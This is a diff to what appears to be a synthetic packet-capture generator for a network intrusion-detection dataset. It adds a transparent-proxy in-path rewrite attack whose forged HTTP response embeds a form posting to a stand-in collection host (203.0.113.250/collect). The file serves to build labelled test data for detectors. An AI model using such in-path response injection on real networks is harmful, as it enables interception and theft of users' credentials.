@@ -315,6 +315,29 @@ def attack_inpath(rng, i):
     return cap
 
 
+def attack_proxy(rng, i):
+    """inpath_rewrite of a whole flow: a transparent proxy on the path terminates the client's
+    connection to a server whose earlier flows make its baseline, and answers with its own stack
+    and its own response headers."""
+    cap = Cap(T0 + (150 + i) * 10**9)
+    sv, im = [("linux", "windows"), ("windows", "linux"), ("freebsd", "router"), ("linux", "solaris")][i % 4]
+    cl = mk_client(rng)
+    srv = mk_server(rng, sv, rng.randrange(3, 20))
+    imp = Host(rng, STACKS[im], srv.ip, rng.randrange(1, 4), MAC_S)
+    site = SITES[i % len(SITES)]
+    for _ in range(rng.randrange(4, 7)):
+        genuine_flow(cap, rng, cl, srv, site, ack_first=rng.random() < 0.5)
+    c = Conn(cap, cl, imp, rng.randrange(32768, 60999))
+    c.handshake(rtt=rng.randrange(2, 10))
+    c.send("c", "PA", http_req(site, "/account"), dt_ms=1)
+    body = html(rng, 700, b"<form action='http://203.0.113.250/collect'></form>")
+    c.server_data(http_resp(200, body, server=["Apache", None, "squid/4.13", "Microsoft-IIS/10.0"][i % 4],
+                            date=i % 2 == 0), dt_ms=rng.randrange(3, 20))
+    c.send("c", "A", dt_ms=1)
+    c.close()
+    return cap
+
+
 def dns_msg(qid, name, addrs=None, qr=False, ttl=300):
     if not qr:
         return bytes(DNS(id=qid, rd=1, qd=DNSQR(qname=name)))
@@ -557,7 +580,7 @@ def benign_ordinary(rng, i):
     return cap
 
 
-ATTACKS = {"inpath_rewrite": [attack_inpath] * 20 + [attack_dns] * 5,
+ATTACKS = {"inpath_rewrite": [attack_inpath] * 20 + [attack_dns] * 5 + [attack_proxy] * 4,
            "injected_redirect": [attack_redirect] * 24}
 BENIGN = {"load_balanced": (benign_load_balanced, 13), "anycast_cdn": (benign_anycast, 13),
           "nat": (benign_nat, 13), "route_change": (benign_route_change, 13),
